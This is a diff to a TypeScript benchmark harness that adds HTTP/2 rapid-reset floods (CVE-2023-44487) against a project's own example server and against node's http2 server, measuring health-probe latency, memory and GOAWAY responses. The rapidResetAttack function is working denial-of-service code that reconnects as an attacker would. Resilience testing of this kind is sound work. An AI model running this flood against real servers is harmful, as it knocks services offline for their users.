@@ -1,5 +1,5 @@
 /**
- * `npm run floods [-- --only message,chat,chat-spread,graphql,teardown,subscribe,spread,grpc-burst,grpc-stream,add-book,multipart,pong] [--root DIR] [--shipped] [--interval MS]`: the
+ * `npm run floods [-- --only message,chat,chat-spread,graphql,teardown,subscribe,spread,grpc-burst,grpc-stream,add-book,multipart,pong,rapid-reset,rapid-reset-node] [--root DIR] [--shipped] [--interval MS]`: the
  * WebSocket floods of issue 26 replayed against the example server, with `/health` measured from
  * another process during each.
  *
@@ -27,7 +27,7 @@ const { values } = parseArgs({ options: { root: { type: 'string' }, only: { type
 const root = values.root ?? fileURLToPath(new URL('..', import.meta.url));
 const only = values.only?.split(',');
 
-interface Server { url: string; child: ChildProcess; reset(): void; read(): Promise<{ p99: number; max: number; rssStart: number; rssPeak: number }> }
+interface Server { url: string; child: ChildProcess; reset(): void; read(): Promise<{ p99: number; max: number; rssStart: number; rssPeak: number; rssAtReset?: number; rss?: number }> }
 async function startServer(): Promise<Server> {
   const port = await freePort();
   const child = fork(fileURLToPath(new URL('./floods-server.ts', import.meta.url)), [String(port), root, ...(values.shipped ? ['shipped'] : [])], { execArgv: ['--import', 'tsx', ...(process.env.FLOODS_CPU_PROF ? ['--cpu-prof', `--cpu-prof-dir=${process.env.FLOODS_CPU_PROF}`] : [])], stdio: ['ignore', 'ignore', 'ignore', 'ipc'] });
@@ -247,6 +247,79 @@ const grpcBurst: Flood = async (_ws, base) => {
   return `calls by grpc-status ${[...statuses].map(([k, n]) => `${n}×${k}`).join(' ')}; GOAWAY ${goaways.length ? codes(goaways) : 'none'}`;
 };
 
+/**
+ * Issue 44 #3, HTTP/2 rapid reset (CVE-2023-44487): `connections` h2c connections from one address for `seconds`,
+ * each opening a stream and resetting it (RST_STREAM CANCEL) in a loop, 100 per turn, reconnecting when the server
+ * closes it (as an attacker would). Counts the streams reset, the connections opened and the GOAWAYs by code.
+ */
+async function rapidResetAttack(base: string, connections: number, seconds: number, path = '/health'): Promise<string> {
+  const end = performance.now() + seconds * 1000;
+  const goaways: number[] = [];
+  let streams = 0;
+  let opened = 0;
+  const attacker = async (): Promise<void> => {
+    while (performance.now() < end) {
+      const session = http2.connect(base);
+      opened++;
+      session.on('error', () => {});
+      session.on('goaway', (code) => goaways.push(code));
+      const closed = once(session, 'close').catch(() => undefined);
+      await Promise.race([once(session, 'remoteSettings').catch(() => undefined), closed]);
+      while (!session.closed && !session.destroyed && performance.now() < end) {
+        for (let i = 0; i < 100; i++) {
+          try {
+            const req = session.request({ ':path': path });
+            req.on('error', () => {});
+            req.close(http2.constants.NGHTTP2_CANCEL);
+            streams++;
+          } catch {
+            break;
+          }
+        }
+        await turn();
+      }
+      session.destroy();
+      await closed;
+    }
+  };
+  await Promise.all(Array.from({ length: connections }, attacker));
+  return `${connections} connections × ${seconds} s: ${streams} streams reset, ${opened} connections opened; GOAWAY ${goaways.length ? codes(goaways) : 'none'} (11 = ENHANCE_YOUR_CALM, 2 = nghttp2's own INTERNAL_ERROR)`;
+}
+
+function rss(m: { rssAtReset?: number; rssPeak?: number; rss?: number }): string {
+  return `RSS ${m.rssAtReset?.toFixed(0)} → peak ${m.rssPeak?.toFixed(0)} MB (growth ${((m.rssPeak ?? 0) - (m.rssAtReset ?? 0)).toFixed(0)} MB), ${m.rss?.toFixed(0)} MB after`;
+}
+
+/** Rapid reset from 100 connections against the example server (keel's h2_* limits). */
+const rapidReset: Flood = async (_ws, base) => {
+  const what = await rapidResetAttack(base, 100, 10);
+  await sleep(1000);
+  return `${what}; server ${rss(await server.read())}`;
+};
+
+/**
+ * The same attack against node's own HTTP/2 server (bench/floods-node-h2.ts), with its own `/health` probe (HTTP/1.1,
+ * same process): the comparison. The line's own /health columns are keel's, idle meanwhile; node's are in the text.
+ */
+const rapidResetNode: Flood = async () => {
+  const child = fork(fileURLToPath(new URL('./floods-node-h2.ts', import.meta.url)), [], { execArgv: ['--import', 'tsx'], stdio: ['ignore', 'ignore', 'ignore', 'ipc'] });
+  const { health, h2 } = (await new Promise((resolve) => child.once('message', resolve))) as { health: string; h2: string };
+  const nodeProbe = await startProbe(health);
+  try {
+    child.send('reset');
+    nodeProbe.start();
+    const what = await rapidResetAttack(h2, 100, 10, '/');
+    await sleep(1000);
+    const { latencies, failures } = await nodeProbe.stop();
+    const m = await new Promise<{ p99: number; max: number; rssAtReset: number; rssPeak: number; rss: number }>((r) => { child.once('message', (x) => r(x as { p99: number; max: number; rssAtReset: number; rssPeak: number; rss: number })); child.send('read'); });
+    const sorted = latencies.sort((a, b) => a - b);
+    return `node's own http2 server: /health n ${sorted.length}, p50 ${pct(sorted, 50).toFixed(1)}, p99 ${pct(sorted, 99).toFixed(1)}, max ${sorted.at(-1)?.toFixed(1)} ms, ${failures} failed, loop delay p99 ${m.p99.toFixed(0)} / max ${m.max.toFixed(0)} ms, ${rss(m)}; ${what}`;
+  } finally {
+    nodeProbe.exit();
+    child.kill('SIGTERM');
+  }
+};
+
 /** No flood: /health alone for 3 s, the machine's own noise. */
 const idle: Flood = async () => {
   await sleep(3000);
@@ -268,6 +341,8 @@ const FLOODS: [string, Flood][] = [
   ['add-book', addBook],
   ['multipart', multipart],
   ['pong', pong],
+  ['rapid-reset', rapidReset],
+  ['rapid-reset-node', rapidResetNode],
 ];
 const ON_REQUEST = new Set(['grpc-stream', 'add-book', 'multipart', 'pong']);
 
@@ -280,6 +355,15 @@ console.log(`example server ${url} (root ${root})`);
 for (const path of ['/ws/echo', '/ws/chat']) (await openWs(`${wsBase}${path}`)).close();
 (await openWs(`${wsBase}/graphql`, 'graphql-transport-ws')).close();
 await addBooks(url, 1);
+// And h2c (the HTTP/2 compatibility path loads on its first stream): the rapid-reset floods start warm.
+await new Promise<void>((resolve) => {
+  const session = http2.connect(url);
+  session.on('error', () => resolve());
+  const req = session.request({ ':path': '/health' });
+  req.on('error', () => resolve());
+  req.on('data', () => {});
+  req.on('close', () => (session.close(), resolve()));
+});
 probe.start();
 await sleep(500);
 await probe.stop();
